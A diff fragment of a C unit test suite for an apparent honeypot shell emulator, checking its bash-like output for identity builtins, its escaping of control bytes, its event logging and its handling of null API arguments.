+    assert_true(strncmp(exec_out("/usr/bin/uname --help", &st), "Usage: uname [OPTION]...\n", 25) == 0);
+}
+
+static void test_identity_builtins(void **state)
+{
+    (void)state;
+    EXEC_EQ("whoami; id; id -u; id -un; pwd; hostname; hostname -s; hostname -d; hostname -i; hostname -I",
+            "root\nuid=0(root) gid=0(root) groups=0(root)\n0\nroot\n/root\nbox.example.net\nbox\n"
+            "example.net\n127.0.1.1\n198.51.100.10 \n", 0);
+    EXEC_EQ("whoami x", "whoami: extra operand \xe2\x80\x98x\xe2\x80\x99\nTry 'whoami --help' for more information.\n", 1);
+    EXEC_EQ("id nosuch", "id: \xe2\x80\x98nosuch\xe2\x80\x99: no such user\n", 1);
+    EXEC_EQ("id -x", "id: invalid option -- 'x'\nTry 'id --help' for more information.\n", 1);
+    EXEC_EQ("true; echo $?; false; echo $?; :; echo $?", "0\n1\n0\n", 0);
+
+    struct fake f;
+    struct hp_shell *sh = mk(&f, (struct opts){ .user = "admin" });
+    const char *cmd = "id; whoami; pwd; echo $HOME; hostname newname";
+    hp_shell_exec(sh, cmd, strlen(cmd));
+    EXPECT(&f, "uid=1000(admin) gid=1000(admin) groups=1000(admin)\nadmin\n/home/admin\n/home/admin\n"
+               "hostname: you must be root to change the host name\n");
+    assert_int_equal(f.status, 1);
+    done(sh, &f);
+}
+
+static void test_hostile_bytes(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
+    /* a command name with control bytes or non-UTF-8 is shown as $'...' (as
+     * bash 5.2 does); the events have the exact bytes */
+    const char cmd[] = "a\x01\x1b\x7f\\'b\xff;echo \0z;caf\xc3\xa9";
+    hp_shell_exec(sh, cmd, sizeof(cmd) - 1);
+    EXPECT(&f, "bash: line 1: $'a\\001\\E\\177\\'b\\377': command not found\n\0z\n"
+               "bash: line 1: caf\xc3\xa9: command not found\n");
+    assert_int_equal(nevents, 3);
+    expect_event(0, "command.input/b64", cmd, sizeof(cmd) - 1);
+    expect_event(1, "command.failed/b64", "a\x01\x1b\x7f\\'b\xff", 8);
+    EXPECT_EVENT(2, "command.failed", "caf\xc3\xa9");
+    done(sh, &f);
+}
+
+static void test_api_edges(void **state)
+{
+    (void)state;
+    assert_null(hp_shell_new(NULL));
+    hp_shell_start(NULL);
+    hp_shell_input(NULL, (const uint8_t *)"x", 1);
+    hp_shell_exec(NULL, "x", 1);
+    hp_shell_eof(NULL);
+    hp_shell_resize(NULL, 1, 1);
+    hp_shell_free(NULL);
+
+    /* no callbacks, no context, no user, no host: nothing crashes */
+    struct hp_shell_params p = { .interactive = true };
+    struct hp_shell *sh = hp_shell_new(&p);
+    hp_shell_start(sh);
+    hp_shell_resize(sh, 200, 50);
+    hp_shell_input(sh, (const uint8_t *)"nosuch\recho x\r\x04", 16);
+    hp_shell_free(sh);
+
+    /* without the hook, events go to the (not started) outputs */
+    hp_shell_set_event_hook(NULL, NULL);
+    struct fake f;
+    memset(&f, 0, sizeof(f));
+    struct hp_shell_params q = { .ctx = &ctx, .term = { fake_write, fake_exit, &f } };
+    sh = hp_shell_new(&q);
+    hp_shell_exec(sh, "nosuch", 6);
+    assert_string_equal(f.out, "bash: line 1: nosuch: command not found\n");
+    hp_shell_free(sh);
+    free(f.out);
+    hp_shell_set_event_hook(hook, NULL);
+}
+
+static int setup(void **state)
+{
+    (void)state;
+    hp_shell_set_event_hook(hook, NULL);
+    return 0;
+}
+
+static int teardown(void **state)
+{
+    (void)state;
+    clear_events();
+    hp_shell_set_event_hook(NULL, NULL);
+    return 0;
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_banner),
+        cmocka_unit_test(test_default_identity),
+        cmocka_unit_test(test_echo_and_enter),
+        cmocka_unit_test(test_backspace),
+        cmocka_unit_test(test_kill_line_and_word),
+        cmocka_unit_test(test_ctrl_c),
+        cmocka_unit_test(test_ctrl_d),
+        cmocka_unit_test(test_ctrl_l_tab),
+        cmocka_unit_test(test_escape_sequences),
+        cmocka_unit_test(test_history),
+        cmocka_unit_test(test_line_cap),
+        cmocka_unit_test(test_unknown_command),
+        cmocka_unit_test(test_chains),
+        cmocka_unit_test(test_exit),
+        cmocka_unit_test(test_free_in_exit),
+        cmocka_unit_test(test_prompt_cwd),
+        cmocka_unit_test(test_exec),
+        cmocka_unit_test(test_script),
+        cmocka_unit_test(test_echo_builtin),
+        cmocka_unit_test(test_uname_builtin),
+        cmocka_unit_test(test_identity_builtins),
+        cmocka_unit_test(test_hostile_bytes),
+        cmocka_unit_test(test_api_edges),
+    };
+    return cmocka_run_group_tests(tests, setup, teardown);
+}
